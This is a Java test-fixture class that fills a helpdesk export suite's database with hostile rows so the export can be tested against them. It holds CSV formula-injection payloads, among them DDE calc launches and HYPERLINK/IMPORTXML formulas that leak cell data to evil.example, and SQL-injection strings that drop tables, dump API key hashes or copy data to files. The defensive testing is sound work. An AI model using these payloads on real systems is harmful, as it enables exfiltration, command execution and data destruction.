package com.helpdesk.export.rest;

import com.helpdesk.export.domain.model.ApiKey;
import com.helpdesk.export.domain.model.KeyHash;
import com.helpdesk.export.testsupport.Gen;
import com.helpdesk.export.testsupport.Gens;
import java.nio.charset.StandardCharsets;
import java.sql.Array;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Types;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import javax.sql.DataSource;

/**
 * A third team, "Formula Corp", added to the hostile suite's own database: rows whose every text column starts like
 * a spreadsheet formula, rows holding SQL-injection strings, and rows of random Unicode text (seeded generators of
 * test-support, fixed seeds). Its keys are live and test secret keys of an owner. The demo teams' rows are not touched.
 */
final class HostileData {

    static final UUID TEAM = UUID.fromString("c0ffee00-0000-4000-8000-00000000000c");
    static final String TEAM_TEXT = TEAM.toString();
    static final UUID OWNER = UUID.fromString("c0ffee00-0000-4000-8000-0000000000c1");
    static final String LIVE_KEY = "sk_live_FRMLsafety0Cs7Vq2Xp9Lk4Mn8Bv";
    static final String TEST_KEY = "sk_test_FRMLsafety1Dt8Wr3Yq0Ml5No9Cw";

    /** Text values that start like a formula (=, +, -, @, tab, CR: what CSV must defuse), and well-known payloads. */
    static final List<String> FORMULAS = List.of(
            "=1+1",
            "+1",
            "-2",
            "@SUM(A1:A2)",
            "\t=cmd",
            "\r=cmd",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@cmd",
            "+44 20 7946 0000",
            "-",
            "=",
            "@",
            "+",
            "\t",
            "\r",
            "\r\n=1",
            "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")");
    /** Tags never hold white space: formula-like tags without it. */
    static final List<String> FORMULA_TAGS = List.of("=1+1", "+1", "-2", "@SUM(A1)", "=cmd|calc", "-", "@", "=");
    /** Strings that SQL would take for code if they were pasted into a statement. */
    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1",
            "'; DROP TABLE tickets; --",
            "%' OR 1=1 --",
            "\\' OR 1=1 --",
            "\" OR \"\"=\"",
            "1; SELECT pg_sleep(5)--",
            "$$; DROP TABLE customers; $$",
            "') UNION SELECT key_hash::text FROM api_keys --",
            "%",
            "_",
            "\\",
            "\\%",
            "%%",
            "100% sure_",
            "' || (SELECT current_user) || '",
            "E'\\x27'",
            "/**/OR/**/1=1",
            "admin'--",
            "1' AND SLEEP(5)#",
            "'; COPY tickets TO '/tmp/x'; --",
            "$1",
            "?",
            ":name",
            "{fn now()}",
            "{d '2025-01-01'}",
            "\\x00",
            "' AND 1=CAST((SELECT version()) AS int)--",
            "'||pg_sleep(5)||'",
            "*",
            "[a-z]",
            "^.*$");

    static final int RANDOM_ROWS = 120;

    private HostileData() {}

    /** Adds the team, its keys and rows, unless the database has them already. */
    static synchronized void ensure(DataSource dataSource) {
        if (TestSql.count(dataSource, "select count(*) from teams where id = ?", TEAM) > 0) {
            return;
        }
        try (Connection c = dataSource.getConnection()) {
            c.setAutoCommit(false);
            insert(c);
            c.commit();
            c.setAutoCommit(true);
        } catch (SQLException e) {
            throw new IllegalStateException("could not add the hostile suite's data", e);
        }
    }

    private static UUID id(String kind, String mode, int i) {
        return UUID.nameUUIDFromBytes(("formula-corp:" + kind + ":" + mode + ":" + i).getBytes(StandardCharsets.UTF_8));
    }

    /** Distinct times with microseconds, and some ties, so that order and time output are exercised too. */
    private static OffsetDateTime time(int i) {
        return Instant.parse("2024-03-01T10:00:00Z")
                .plusSeconds(i / 2 * 37L)
                .plusNanos((i % 7) * 1_001_000L)
                .atOffset(ZoneOffset.UTC);
    }

    /** Random text: formula starts, separators, quotes, line breaks, non-ASCII, emoji, invisible characters. */
    static Gen<String> randomText(boolean tag) {
        Gen<Integer> codePoint = Gens.frequency(
                Gens.weight(4, Gens.of((int) '=', (int) '+', (int) '-', (int) '@')),
                Gens.weight(tag ? 0 : 3, Gens.of((int) '\t', (int) '\r', (int) '\n', (int) ' ')),
                Gens.weight(4, Gens.of((int) ',', (int) '"', (int) '\'', (int) ';', (int) '\\', (int) '|')),
                Gens.weight(20, Gens.ints(0x21, 0x7E)),
                Gens.weight(5, Gens.ints(0xC0, 0x24F)),
                Gens.weight(3, Gens.ints(0x4E00, 0x4FFF)),
                Gens.weight(2, Gens.ints(0x1F300, 0x1F64F)),
                Gens.weight(tag ? 0 : 1, Gens.of(0xA0, 0x2028, 0x202E, 0xFEFF, 0x200B)));
        return Gens.codePointStrings(codePoint, tag ? 1 : 0, 30)
                .filter(s -> !tag
                        || (!s.isEmpty()
                                && s.codePoints()
                                        .noneMatch(cp -> Character.isWhitespace(cp) || Character.isSpaceChar(cp))));
    }

    private static void insert(Connection c) throws SQLException {
        exec(c, "insert into teams (id, name) values (?, ?)", TEAM, "Formula Corp (hostile suite)");
        exec(
                c,
                "insert into members (id, team_id, name, email, role) values (?, ?, ?, ?, 'owner')",
                OWNER,
                TEAM,
                "=Formula Owner",
                "owner@formula.example");
        // one text custom field each for tickets and customers: its values are the formula texts too
        exec(
                c,
                "insert into custom_field_definitions (team_id, resource, key, label, kind, position) values "
                        + "(?, 'tickets', 'formula', '=Formula', 'text', 0), (?, 'customers', 'formula', '@Formula', 'text', 0)",
                TEAM,
                TEAM);
        for (String key : List.of(LIVE_KEY, TEST_KEY)) {
            exec(
                    c,
                    "insert into api_keys (id, team_id, member_id, key_hash, display_prefix, kind, mode) "
                            + "values (?, ?, ?, ?, ?, 'secret', ?)",
                    UUID.nameUUIDFromBytes(key.getBytes()),
                    TEAM,
                    OWNER,
                    KeyHash.of(ApiKey.parse(key)).bytes(),
                    ApiKey.parse(key).displayPrefix(),
                    key.startsWith("sk_live_") ? "live" : "test");
        }
        List<String> texts = new ArrayList<>(FORMULAS);
        texts.addAll(INJECTIONS);
        List<String> random = HostileGenerators.samples(randomText(false), "formula-corp-text", RANDOM_ROWS * 3);
        List<String> randomTags = HostileGenerators.samples(randomText(true), "formula-corp-tags", RANDOM_ROWS);
        texts.addAll(random.subList(0, RANDOM_ROWS));
        int n = 0;
        for (String mode : List.of("live", "test")) {
            int rows = mode.equals("live") ? texts.size() : 5;
            for (int i = 0; i < rows; i++, n++) {
                String text = texts.get(i);
                String other = mode.equals("live") ? random.get(RANDOM_ROWS + i % (2 * RANDOM_ROWS)) : "test " + i;
                // the formula rows hold a formula in every text column; the others mix in more random text
                String second = i < FORMULAS.size() ? text : other;
                String[] tags = i < FORMULAS.size()
                        ? new String[] {FORMULA_TAGS.get(i % FORMULA_TAGS.size()), "plain"}
                        : i % 3 == 0 ? new String[] {} : new String[] {randomTags.get(i % RANDOM_ROWS), "=x"};
                OffsetDateTime created = time(n);
                UUID customer = id("customer", mode, i);
                exec(
                        c,
                        "insert into customers (id, team_id, mode, name, email, status, sentiment, tags, notes, "
                                + "ticket_count, created_at, updated_at) values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                        customer,
                        TEAM,
                        mode,
                        text,
                        i % 5 == 4 ? null : second + "@formula.example",
                        i % 2 == 0 ? "active" : "inactive",
                        List.of("positive", "neutral", "negative").get(i % 3),
                        tags,
                        i % 4 == 3 ? null : text,
                        i % 2 == 0 ? 0 : Integer.MAX_VALUE,
                        created,
                        created.plusSeconds(i));
                exec(
                        c,
                        "update customers set metadata = jsonb_build_object('text', ?::text), "
                                + "custom_fields = jsonb_build_object('formula', ?::text) where id = ?",
                        text,
                        second,
                        customer);
                exec(
                        c,
                        "insert into tickets (id, team_id, mode, title, status, priority, customer_id, assigned_to, "
                                + "tags, notes, created_at, updated_at, resolved_at, metadata, custom_fields) "
                                + "values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, jsonb_build_object(?::text, ?::text), "
                                + "jsonb_build_object('formula', ?::text))",
                        id("ticket", mode, i),
                        TEAM,
                        mode,
                        text,
                        List.of("new", "open", "pending", "resolved", "closed").get(i % 5),
                        List.of("low", "normal", "high", "urgent").get(i % 4),
                        i % 3 == 0 ? null : customer,
                        i % 2 == 0 ? OWNER : null,
                        tags,
                        i % 4 == 3 ? null : second,
                        created,
                        created.plusNanos(1_000),
                        i % 5 == 3 ? created.plusDays(1) : null,
                        text,
                        second,
                        text);
                // the conversation: the same texts, from the system and (where there is one) the customer
                exec(
                        c,
                        "insert into messages (id, team_id, mode, ticket_id, sender, author_customer_id, sender_name, "
                                + "is_internal, content, created_at) values (?, ?, ?, ?, 'system', null, ?, false, ?, ?)",
                        id("message", mode, i),
                        TEAM,
                        mode,
                        id("ticket", mode, i),
                        second,
                        text,
                        created);
                if (i % 3 != 0) {
                    exec(
                            c,
                            "insert into messages (id, team_id, mode, ticket_id, sender, author_customer_id, "
                                    + "sender_name, is_internal, content, created_at) "
                                    + "values (?, ?, ?, ?, 'customer', ?, ?, false, ?, ?)",
                            id("reply", mode, i),
                            TEAM,
                            mode,
                            id("ticket", mode, i),
                            customer,
                            text,
                            second,
                            created.plusSeconds(1));
                }
                exec(
                        c,
                        "insert into articles (id, team_id, mode, title, content, category, status, is_public, tags, "
                                + "view_count, use_count, created_at, updated_at, published_at) "
                                + "values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                        id("article", mode, i),
                        TEAM,
                        mode,
                        text,
                        second,
                        i % 6 == 5 ? null : text,
                        List.of("draft", "published", "archived").get(i % 3),
                        i % 2 == 0,
                        tags,
                        i % 2 == 0 ? Integer.MAX_VALUE : 0,
                        i,
                        created,
                        created,
                        i % 3 == 1 ? created : null);
            }
        }
    }

    private static void exec(Connection c, String sql, Object... args) throws SQLException {
        try (PreparedStatement s = c.prepareStatement(sql)) {
            for (int i = 0; i < args.length; i++) {
                Object a = args[i];
                if (a instanceof String[] array) {
                    Array sqlArray = c.createArrayOf("text", array);
                    s.setArray(i + 1, sqlArray);
                } else if (a instanceof OffsetDateTime time) {
                    s.setObject(i + 1, time, Types.TIMESTAMP_WITH_TIMEZONE);
                } else if (a == null) {
                    s.setNull(i + 1, Types.OTHER);
                } else {
                    s.setObject(i + 1, a);
                }
            }
            s.executeUpdate();
        }
    }

    /** The public ids of a query's rows ({@code select id ...}), in its order. */
    static List<String> ids(DataSource dataSource, String prefix, String sql, Object... args) {
        try (Connection c = dataSource.getConnection();
                PreparedStatement s = c.prepareStatement(sql)) {
            for (int i = 0; i < args.length; i++) {
                if (args[i] instanceof Instant instant) {
                    s.setObject(i + 1, instant.atOffset(ZoneOffset.UTC), Types.TIMESTAMP_WITH_TIMEZONE);
                } else {
                    s.setObject(i + 1, args[i]);
                }
            }
            List<String> ids = new ArrayList<>();
            try (ResultSet rs = s.executeQuery()) {
                while (rs.next()) {
                    ids.add(prefix + rs.getObject(1, UUID.class).toString().replace("-", ""));
                }
            }
            return ids;
        } catch (SQLException e) {
            throw new IllegalStateException(sql, e);
        }
    }
}
